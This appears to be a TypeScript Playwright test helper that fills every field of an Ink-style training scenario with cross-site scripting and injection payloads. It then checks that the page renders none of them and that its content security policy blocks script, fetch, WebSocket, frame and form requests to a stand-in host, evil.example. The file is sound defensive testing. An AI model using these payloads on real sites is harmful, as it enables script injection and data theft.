import type { Page } from 'playwright-core';

/** Markup, script, addresses and styles that take over any page that obeys them; `taken` says which did. */
const ATTACKS = [
  '<img src=x onerror="window.taken=1">',
  '</script><script>window.taken=1</script>',
  '"><svg onload="window.taken=1">',
  "'><a href='javascript:window.taken=1'>press</a>",
  '<iframe srcdoc="<b onclick=window.taken=1>x</b>"></iframe>',
  '<style>main { display: none }</style>',
  '<base href="evil.example"><meta http-equiv=refresh content=0>',
  'javascript:window.taken=1',
  '=HYPERLINK("evil.example")',
  '&lt;img src=x onerror=window.taken=1&gt;',
];

const inInk = (attack: string): string =>
  attack.replaceAll(/[\\{}|#~[\]]/g, sign => `\\${sign}`).replaceAll('//', String.raw`\/\/`);

/** A scenario in which every field that takes words is an attack; it is in good order and can be played. */
export const hostileInk = (title: string): string => {
  let next = 0;
  const attack = (): string => {
    next += 1;
    return inInk(ATTACKS[next % ATTACKS.length] ?? '');
  };
  return `# title: ${title} ${attack()}
# setting: shop
# role: ${attack()}
# customer: Dana ${attack()} :: ${attack()}
# cast: Porter :: ${attack()}
# brief: ${attack()}
# goal: ${attack()}
# level: starter
# minutes: 2
# language: en
# currency: EUR
# grievance: wait :: ${attack()} :: 2
# variant: rain :: ${attack()}
# variant: sun :: ${attack()}
# fact: told :: ${attack()}
# owed: 40 :: ${attack()}
VAR heat = 4
VAR trust = 3
VAR patience = 6
VAR told = false
VAR variant = "rain"
-> desk

=== desk ===
Dana: ${attack()} # thought: ${attack()}
Porter: ${attack()}
${attack()}
* "${attack()}" # id: a # empathy: +2 acknowledge wait # promise: taxi :: ${attack()} # why: ${attack()}
    ~ told = true
    -> second
* [${attack()} # id: b # do # empathy: -1 cold # breach: secret :: ${attack()} # why: ${attack()}]
    -> second

=== second ===
Dana: ${attack()} # stirs: 1 :: ${attack()}
* "${attack()}" # id: c # accuracy: +2 remedy # pays: 40 # why: ${attack()}
    Dana: ${attack()} # kept: taxi
    # ending: resolved :: ${attack()}
    -> END
* "${attack()} no" # id: d # accuracy: -2 misinform # why: ${attack()}
    # ending: left :: ${attack()}
    -> END

=== limits ===
# desk: policy :: ${attack()}
# source: ${attack()}
# as-at: 2026-11-01
${attack()}
-> DONE
`;
};

/** What of the attacks has become more than words, on the page and in its shadow roots; nothing, if all is well. */
export const obeyed = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const roots: (Document | ShadowRoot)[] = [document];
    for (const root of roots)
      for (const { shadowRoot } of root.querySelectorAll('*'))
        if (shadowRoot !== null) roots.push(shadowRoot);
    const found = roots.flatMap(root => [
      ...root.querySelectorAll(
        '[onerror], [onload], [onclick], img[src="x"], iframe, object, embed, base, meta[http-equiv=refresh]',
      ),
      ...[...root.querySelectorAll('a[href], form[action], area[href]')].filter(element =>
        /^\s*(?:javascript|data|vbscript):/i.test(
          element.getAttribute('href') ?? element.getAttribute('action') ?? '',
        ),
      ),
      ...[...root.querySelectorAll('style, script')].filter(({ textContent }) =>
        /^(?:main \{ display|window\.taken)/.test(textContent.trim()),
      ),
    ]);
    const taken = 'taken' in globalThis ? ['window.taken'] : [];
    return [...taken, ...found.map(({ outerHTML }) => outerHTML.slice(0, 200))];
  });

/** An attempt to get past a page's policy, as a program, and the directive that forbids it. */
export interface Attempt {
  readonly name: string;
  readonly program: string;
  readonly directive: RegExp;
}

const appended = (element: string, set: string): string =>
  `const it = document.createElement('${element}'); ${set}; document.body.append(it);`;

export const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'a script element',
    program: appended('script', "it.textContent = 'window.taken = 1'"),
    directive: /^script-src/,
  },
  {
    name: 'a handler in an attribute',
    program: `document.body.insertAdjacentHTML('beforeend', '<i onclick="window.taken = 1">x</i>'); document.body.lastElementChild.click();`,
    directive: /^script-src/,
  },
  {
    name: 'text taken for a program',
    program: "setTimeout('window.taken = 1')",
    directive: /^script-src/,
  },
  {
    name: 'an address that is a program',
    program: `${appended('a', "it.href = 'javascript:window.taken = 1'")} it.click();`,
    directive: /^script-src/,
  },
  {
    name: 'a script from elsewhere',
    program: appended('script', "it.src = 'https://evil.example/x.js'"),
    directive: /^script-src/,
  },
  {
    name: 'a program out of thin air',
    program: appended(
      'script',
      "it.src = URL.createObjectURL(new Blob(['window.taken = 1'], { type: 'text/javascript' }))",
    ),
    directive: /^script-src/,
  },
  {
    name: 'a question to elsewhere',
    program: "fetch('https://evil.example/').catch(() => undefined)",
    directive: /^connect-src/,
  },
  {
    name: 'a line to elsewhere',
    program: "try { new WebSocket('wss://evil.example/') } catch {}",
    directive: /^connect-src/,
  },
  {
    name: 'a picture from elsewhere',
    program: appended('img', "it.src = 'https://evil.example/x.png'"),
    directive: /^img-src/,
  },
  {
    name: 'a style sheet from elsewhere',
    program: appended('link', "it.rel = 'stylesheet'; it.href = 'https://evil.example/x.css'"),
    directive: /^style-src/,
  },
  {
    name: 'a style element',
    program: appended('style', "it.textContent = 'main { display: none }'"),
    directive: /^style-src/,
  },
  {
    name: 'another page in this one',
    program: appended('iframe', "it.src = 'https://evil.example/'"),
    directive: /^frame-src/,
  },
  {
    name: 'a plugin',
    program: appended('object', "it.data = 'https://evil.example/x'"),
    directive: /^object-src/,
  },
  {
    name: 'another base for all addresses',
    program: appended('base', "it.href = 'https://evil.example/'"),
    directive: /^base-uri/,
  },
  {
    name: 'a form that is sent elsewhere',
    program: `${appended('form', "it.action = 'https://evil.example/'; it.method = 'post'")} it.submit();`,
    directive: /^form-action/,
  },
];

/** Tries it, and answers with what the browser says has been broken. */
export const attempt = (page: Page, { program }: Attempt): Promise<string> =>
  page.evaluate<string>(`new Promise(resolve => {
    const heard = ({ effectiveDirective }) => resolve(effectiveDirective);
    document.addEventListener('securitypolicyviolation', heard, { once: true });
    ${program}
  })`);
